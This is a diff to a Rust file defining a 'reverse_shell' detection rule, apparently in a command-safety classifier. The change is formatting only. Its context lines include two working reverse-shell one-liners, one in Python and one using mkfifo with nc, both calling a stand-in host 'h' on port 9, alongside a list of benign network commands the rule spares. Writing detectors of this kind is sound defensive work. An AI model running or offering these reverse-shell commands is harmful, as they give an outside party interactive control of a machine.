@@ -1,6 +1,6 @@
 //! `reverse_shell`: shells that listen or call out.
 
-use super::{Rule};
+use super::Rule;
 use crate::effect::{Effect, Kind};
 
 pub(super) const RULE: Rule = Rule {
@@ -14,12 +14,7 @@ pub(super) const RULE: Rule = Rule {
         "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",9));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
         "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 9 > /tmp/f",
     ],
-    spares: &[
-        "nc -zv host 22",
-        "ssh host",
-        "telnet localhost 25",
-        "python3 -m http.server",
-    ],
+    spares: &["nc -zv host 22", "ssh host", "telnet localhost 25", "python3 -m http.server"],
     ..Rule::new()
 };
 
